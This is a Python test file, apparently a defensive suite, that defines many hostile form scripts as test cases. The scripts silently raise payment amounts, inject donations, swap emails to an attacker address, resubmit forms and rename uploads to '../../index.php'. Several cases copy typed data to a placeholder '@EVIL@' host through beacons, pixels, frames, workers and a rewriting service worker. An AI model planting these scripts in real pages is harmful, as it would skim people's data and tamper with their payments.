"""Tricks of scripts: values changed on the way, requests doubled and copied, timers, windows, workers, files."""

from __future__ import annotations

from tests.attacks.tricks import POST, Trick, answer, at, form, has, on_submit, posts, stolen
from tests.parts.recording import Reply

AMOUNT = '<label>Amount <input name="amount" value="10.00" readonly></label>'
BIG = {"amount": "1000.00"}
SET = "host.amount.value = '1000.00';"
SHOW_FILE = '<p><label>Proof of address (PDF) <input type="file" name="proof"></label></p>'
UPLOAD = 'method="post" action="/send" enctype="multipart/form-data"'
DATA = "new URLSearchParams(new FormData(host))"
THANKS = "document.body.innerHTML = '<h1>Thank you</h1><p>Your reference is TT-1.</p>';"
JSON_OF = "{...Object.fromEntries(new FormData(host))"


def changed(name: str, script: str, **more: object) -> Trick:
    """The amount on the page is another than the one sent."""
    return Trick(name, form(AMOUNT, script=script), has("amount", "1000.00"), shows=BIG, **more)  # type: ignore[arg-type]


def copied(name: str, script: str, **more: object) -> Trick:
    """What is typed goes to another site as well."""
    return Trick(name, form(script=script), stolen, **more)  # type: ignore[arg-type]


def by_script(name: str, body: str, options: str = "", **more: object) -> Trick:
    """Sent as a request of a script's, with an amount that stands nowhere."""
    html = form(attributes="", script=on_submit(
        f"event.preventDefault(); (async () => {{ await fetch('/send', {{method: 'POST', {options} body: {body}}}); "
        f"{THANKS} }})();"))
    return Trick(name, html, more.pop("does", has("donation", "25.00")), **more)  # type: ignore[arg-type]


JSON_TYPE = "headers: {'Content-Type': 'application/json'},"

TRICKS = (
    changed("changed-on-submit", on_submit(SET)),
    changed("changed-in-formdata", "host.addEventListener('formdata', (e) => e.formData.set('amount', '1000.00'));"),
    changed("changed-on-pointerdown", f"host.addEventListener('pointerdown', () => {{ {SET} }});"),
    changed("changed-on-hover", f"host.querySelector('button').addEventListener('mouseenter', () => {{ {SET} }});"),
    changed("changed-when-the-button-has-the-focus",
            f"host.querySelector('button').addEventListener('focus', () => {{ {SET} }});"),
    changed("changed-in-capture-on-window", f"addEventListener('click', () => {{ {SET} }}, true);"),
    Trick("changed-while-the-person-reads", form(AMOUNT, script=on_submit(
        "setInterval(() => { host.amount.value = String(Number(host.amount.value) + 1) + '.00'; }, 40); "
        "setTimeout(() => { host.action = '/more'; host.submit(); }, 120);")),
        at("/more"), races=True),
    changed("changed-by-timer-after-filling",
            f"host.addEventListener('input', () => setTimeout(() => {{ {SET} }}, 30));"),
    changed("changed-as-the-picture-is-taken",
            f"new MutationObserver(() => {{ {SET} }}).observe(document.documentElement, {{subtree: true, "
            "childList: true, attributes: true}); host.addEventListener('input', () => host.dataset.x = '1');"),
    changed("changed-unless-visible", "setInterval(() => { if (document.hasFocus() || !document.hidden) " + SET
            + " }, 20);"),
    changed("prototype-of-value-replaced", "const was = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "
            "'value'); " + on_submit("host.amount.defaultValue = '1000.00'; host.amount.type = 'hidden';")),
    changed("shadowed-value-property", "Object.defineProperty(host.amount, 'value', {get: () => '10.00'}); "
            "host.amount.setAttribute('value', '1000.00');"),
    Trick("added-in-formdata", form(script="host.addEventListener('formdata', (e) => e.formData.append('donation', "
                                           "'25.00'));"), has("donation", "25.00"), shows={"donation": "25.00"}),
    Trick("address-of-another", form(script="host.addEventListener('formdata', (e) => e.formData.set('email', "
                                            "'x@evil.test'));"), has("email", "x@evil.test"),
          shows={"email": "x@evil.test"}),
    Trick("names-swapped", form(script=on_submit("const [a, b] = [host.full_name, host.email]; a.name = 'email'; "
                                                 "b.name = 'full_name';")),
          has("full_name", "e.whitcombe@example.org"), shows={"full_name": "e.whitcombe@example.org"}),
    Trick("enabled-at-the-press", form('<input type="hidden" name="donation" value="25.00" disabled>',
                                       script=on_submit("host.donation.disabled = false;")),
          has("donation", "25.00"), shows={"donation": "25.00"}),
    Trick("custom-element", form("<x-gift name='donation'></x-gift>", head="""<script>
        customElements.define('x-gift', class extends HTMLElement { static formAssociated = true;
          constructor() { super(); this.attachInternals().setFormValue('25.00'); } });</script>"""),
          has("donation", "25.00"), shows={"donation": "25.00"}),
    Trick("action-changed-on-submit", form(script=on_submit("host.action = '/subscribe';")), at("/subscribe")),
    Trick("action-elsewhere-on-submit", form(script=on_submit("host.action = '@EVIL@/take';")), stolen, arrive=0,
          approvals=0, ends="cancelled", warns="another site", sheets=1),
    Trick("method-changed-on-submit", form(script=on_submit("host.method = 'get';")),
          lambda seen: seen.posts == 0 and bool(seen.sent("email"))),
    by_script("json-with-an-amount", f"JSON.stringify({JSON_OF}, donation: '25.00'}})", JSON_TYPE,
              shows={"donation": "25.00"}),
    by_script("json-in-json", "JSON.stringify({data: JSON.stringify(" + JSON_OF + ", donation: '25.00'})})", JSON_TYPE,
              does=lambda seen: any(b"25.00" in each.body for each in seen.site)),
    by_script("json-name-twice", "JSON.stringify(" + JSON_OF + ", donation: '0'}).replace('}', "
              "', \"donation\": \"25.00\"}')", JSON_TYPE),
    by_script("json-number-no-two-readers-read-alike", "JSON.stringify(" + JSON_OF + "}).replace('}', "
              "', \"donation\": 25.0000000000000000001}')", JSON_TYPE, does=lambda seen: posts(1)(seen)),
    by_script("json-as-text", f"JSON.stringify({JSON_OF}, donation: '25.00'}})", shows={"donation": "25.00"}),
    by_script("amount-in-a-header", DATA, "headers: {'X-Amount': '1000.00'},",
              does=lambda seen: any(each.header("X-Amount") for each in seen.site), shows={"x-amount": "1000.00"}),
    by_script("other-method-in-a-header", DATA, "headers: {'X-HTTP-Method-Override': 'DELETE'},",
              does=lambda seen: any(each.header("X-HTTP-Method-Override") for each in seen.site),
              shows={"x-http-method-override": "DELETE"}),
    by_script("all-in-base64", "btoa(JSON.stringify(" + JSON_OF + ", donation: '25.00'}))",
              "headers: {'Content-Type': 'text/plain'},", does=posts(1)),
    by_script("bytes-nobody-can-read", "new Blob([new TextEncoder().encode(JSON.stringify(" + JSON_OF
              + "})).map((b) => b ^ 90)], {type: 'application/octet-stream'})", does=posts(1),
              flags={"(body)": "unread"}),
    by_script("packed", "await new Response(new Blob([JSON.stringify(" + JSON_OF + ", donation: '25.00'})]).stream()"
              ".pipeThrough(new CompressionStream('gzip'))).blob()", "headers: {'Content-Type': 'application/json', "
              "'Content-Encoding': 'gzip'},", does=posts(1)),
    Trick("amount-in-a-cookie", form(script=on_submit("document.cookie = 'amount=1000.00; path=/';")),
          lambda seen: any("amount=1000.00" in each.header("Cookie") for each in seen.site if each.method == "POST"),
          shows={"x-page-cookie": "amount=1000.00"}),
    Trick("amount-in-the-address", form(attributes='method="post" action="/send?amount=1000.00"'),
          has("amount", "1000.00"), shows=BIG),
    Trick("data-in-the-path", form(script=on_submit("host.action = '/send/' + encodeURIComponent(host.email.value);")),
          lambda seen: any("whitcombe" in each.target for each in seen.site)),
    # more than one request
    Trick("sent-twice", form(script=on_submit(f"fetch('/send', {{method: 'POST', body: {DATA}}});")), posts(2),
          races=True),
    Trick("sent-twice-by-keepalive", form(script=on_submit(
        f"fetch('/send', {{method: 'POST', keepalive: true, body: {DATA}}});")), posts(2), races=True),
    Trick("submit-in-submit", form(attributes=POST + ' target="_blank"', script=on_submit(
        "host.target = 'f'; HTMLFormElement.prototype.submit.call(host); host.target = '_blank';"),
        outside='<iframe name="f" hidden></iframe>'), posts(2), races=True),
    Trick("request-submit-twice", form(attributes=POST + ' target="f"', button='<button type="button">Send</button>',
          script="host.querySelector('button').addEventListener('click', () => { host.requestSubmit(); "
          "setTimeout(() => { host.target = 'g'; host.requestSubmit(); }, 30); });",
          outside='<iframe name="f" hidden></iframe><iframe name="g" hidden></iframe>'), posts(2), races=True),
    Trick("ten-times", form(attributes="", script=on_submit(
        f"event.preventDefault(); for (let i = 0; i < 10; i++) fetch('/send', {{method: 'POST', body: {DATA}}})"
        f".then(() => {{ {THANKS} }});")), posts(10), races=True),
    Trick("once-more-when-answered", form(attributes="", script=on_submit(
        f"event.preventDefault(); const go = () => fetch('/send', {{method: 'POST', body: {DATA}}}); "
        f"go().then(go).then(() => {{ {THANKS} }});")), posts(2), ends="cancelled", sheets=2,
        warns="already sent exactly this"),
    Trick("once-more-with-a-counter", form(attributes="", script=on_submit(
        f"event.preventDefault(); const go = (n) => fetch('/send?n=' + n, {{method: 'POST', body: {DATA}}}); "
        f"go(1).then(() => go(2)).then(() => {{ {THANKS} }});")), posts(2), ends="cancelled", sheets=2),
    Trick("copy-to-own-log", form(script=on_submit(f"navigator.sendBeacon('/log', {DATA});")), at("/log"), races=True),
    Trick("second-window", form(script=on_submit(
        "const w = open('', '_blank'); const f = host.cloneNode(true); f.action = '/again'; "
        "[...f.elements].forEach((e, i) => { e.value = host.elements[i].value; }); "
        "(w ? w.document.body : document.body).append(f); HTMLFormElement.prototype.submit.call(f);")), at("/again"),
        races=True),
    Trick("autosave-as-typed", form(script="host.addEventListener('input', () => fetch('/draft', {method: 'POST', "
                                           f"body: {DATA}}}));"), at("/draft")),
    Trick("autosave-on-leaving-a-field", form(script="host.addEventListener('focusout', () => { const x = "
          f"new XMLHttpRequest(); x.open('PUT', '/draft'); x.send(String({DATA})); }});"), at("/draft")),
    Trick("look-up-as-typed", form(script="host.addEventListener('input', (e) => fetch('/suggest?q=' + "
                                          "encodeURIComponent(e.target.value)));"), at("/suggest")),
    # to another site
    copied("beacon-copy", on_submit(f"navigator.sendBeacon('@EVIL@/b', {DATA});")),
    copied("pixel-a-key", "host.addEventListener('input', (e) => { new Image().src = '@EVIL@/p?d=' + "
           "encodeURIComponent(e.target.value); });"),
    copied("keepalive-copy", on_submit(f"fetch('@EVIL@/k', {{method: 'POST', mode: 'no-cors', keepalive: true, "
                                       f"body: {DATA}}});")),
    copied("copy-on-pagehide", f"addEventListener('pagehide', () => navigator.sendBeacon('@EVIL@/h', {DATA}));"),
    copied("copy-on-visibilitychange", "document.addEventListener('visibilitychange', () => "
           f"navigator.sendBeacon('@EVIL@/v', {DATA}));"),
    copied("copy-by-window", on_submit(f"open('@EVIL@/w?' + {DATA});")),
    copied("copy-by-frame", on_submit("const f = document.createElement('iframe'); "
           f"f.src = '@EVIL@/f?' + {DATA}; document.body.append(f);")),
    copied("copy-by-style", on_submit("document.body.style.background = 'url(@EVIL@/c?d=' + "
                                      "encodeURIComponent(host.email.value) + ')'; document.body.offsetTop;")),
    copied("location-elsewhere-as-typed", "host.addEventListener('change', (e) => { setTimeout(() => { location.href = "
           "'@EVIL@/l?d=' + encodeURIComponent(e.target.value); }, 0); });"),
    copied("copy-by-a-worker", on_submit(
        "new Worker(URL.createObjectURL(new Blob([`fetch('@EVIL@/wk?d=${encodeURIComponent(host.email.value)}', "
        "{mode: 'no-cors'})`])));")),
    Trick("changed-on-beforeunload", form(AMOUNT, script="addEventListener('beforeunload', () => { " + SET
          + f" const x = new XMLHttpRequest(); x.open('POST', '/late', true); x.send(String({DATA})); "
          f"fetch('/late', {{method: 'POST', keepalive: true, body: {DATA}}}); }});"), at("/late"), races=True),
    Trick("service-worker-rewrites", form(script="navigator.serviceWorker.register('/sw.js');"),
          lambda seen: any(b"x@evil.test" in each.body for each in seen.site), pages={}, answers=answer(
              "GET", "/sw.js", Reply(body=b"""
                addEventListener('install', () => skipWaiting());
                addEventListener('activate', (e) => e.waitUntil(clients.claim()));
                addEventListener('fetch', (e) => { if (e.request.method === 'POST') e.respondWith(e.request.text()
                  .then((t) => fetch('/send', {method: 'POST', body: t + '&email=x@evil.test',
                    headers: {'Content-Type': 'application/x-www-form-urlencoded'}}))); });""",
                                     headers=(("Content-Type", "text/javascript"),)))),
    Trick("frame-swapped-after-filling", """<!doctype html><html lang="en"><title>Register</title><h1>Register</h1>
        <iframe id="f" src="/inner" width="600" height="400"></iframe><script>
        let done = false; addEventListener("message", (e) => { if (done) return; done = true;
          document.getElementById("f").src = "/inner2?" + e.data; });</script>""",
          lambda seen: bool(seen.at("/inner2")), pages={
              "/inner": form(attributes=POST + ' target="_top"', script="host.addEventListener('change', () => "
                             f"setTimeout(() => parent.postMessage(String({DATA}), '*'), 300));"),
              "/inner2": form('<input type="hidden" name="donation" value="25.00">',
                              attributes=POST + ' target="_top"')}),
    Trick("file-swapped", form(SHOW_FILE, attributes=UPLOAD, script=on_submit(
        "const t = new DataTransfer(); t.items.add(new File(['I owe you 1000.00'], 'proof.pdf', "
        "{type: 'application/pdf'})); host.proof.files = t.files;")),
        lambda seen: any(b"I owe you" in each.body for each in seen.site), files=True),
    Trick("file-added", form(SHOW_FILE, attributes=UPLOAD, script="host.addEventListener('formdata', (e) => "
          "e.formData.append('proof', new File(['I owe you 1000.00'], 'more.pdf')));"),
          lambda seen: any(b"I owe you" in each.body for each in seen.site), files=True),
    Trick("file-renamed", form(SHOW_FILE, attributes=UPLOAD, script="host.addEventListener('formdata', (e) => "
          "{ const f = e.formData.get('proof'); e.formData.set('proof', f, '../../index.php'); });"),
          lambda seen: any(b"index.php" in each.body for each in seen.site), files=True),
    Trick("own-multipart-boundary", form(attributes="", script=on_submit(
        "event.preventDefault(); fetch('/send', {method: 'POST', headers: {'Content-Type': 'multipart/form-data; "
        "boundary=AMOUNT1000'}, body: '--AMOUNT1000\\r\\nContent-Disposition: form-data; name=\"email\"\\r\\n\\r\\n' + "
        "host.email.value + '\\r\\n--AMOUNT1000--\\r\\n'}).then(() => { " + THANKS + " });")),
        lambda seen: any("AMOUNT1000" in each.header("Content-Type") for each in seen.site)),
    Trick("sent-late", form(AMOUNT, script=on_submit(
        "event.preventDefault(); setTimeout(() => { " + SET + " HTMLFormElement.prototype.submit.call(host); }, "
        "250);")),
        has("amount", "1000.00"), shows=BIG),
    Trick("value-rewritten-as-typed", form(script="host.email.addEventListener('input', () => setTimeout(() => { "
          "host.email.value = 'x@evil.test'; }, 30));"), has("email", "x@evil.test"), shows={"email": "x@evil.test"}),
    Trick("edit-undone-by-the-page", form(script="host.full_name.addEventListener('input', () => { if "
          "(host.full_name.value.endsWith('II')) host.full_name.value = 'Eleanor Whitcombe'; });"),
          lambda seen: posts(1)(seen), edit=True, sheets=2, warns="could not be put into the page"),
    Trick("amount-rises-at-each-filling", form(AMOUNT, script="let n = Number(sessionStorage.n || 0); "
          "host.full_name.addEventListener('change', () => { sessionStorage.n = ++n; host.amount.value = n * 500 + "
          "'.00'; });"), has("amount", "500.00"), edit=True, sheets=2),
    Trick("amount-rises-once-edited", form(AMOUNT, script="host.full_name.addEventListener('change', () => { if "
          "(host.full_name.value.endsWith('II')) " + SET + " });"), lambda seen: has("amount", "10.00")(seen),
          edit=True, sheets=2),
)

